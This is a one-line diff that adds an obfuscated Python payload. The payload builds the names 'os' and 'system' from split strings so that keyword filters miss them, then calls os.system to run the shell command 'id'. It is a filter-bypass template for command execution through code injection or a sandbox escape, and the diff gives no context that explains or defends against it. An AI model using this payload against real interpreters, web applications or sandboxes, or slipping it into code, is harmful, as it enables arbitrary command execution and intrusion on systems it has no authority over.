@@ -1,0 +1,1 @@
+getattr(__import__('o'+'s'), 'sys'+'tem')('id')
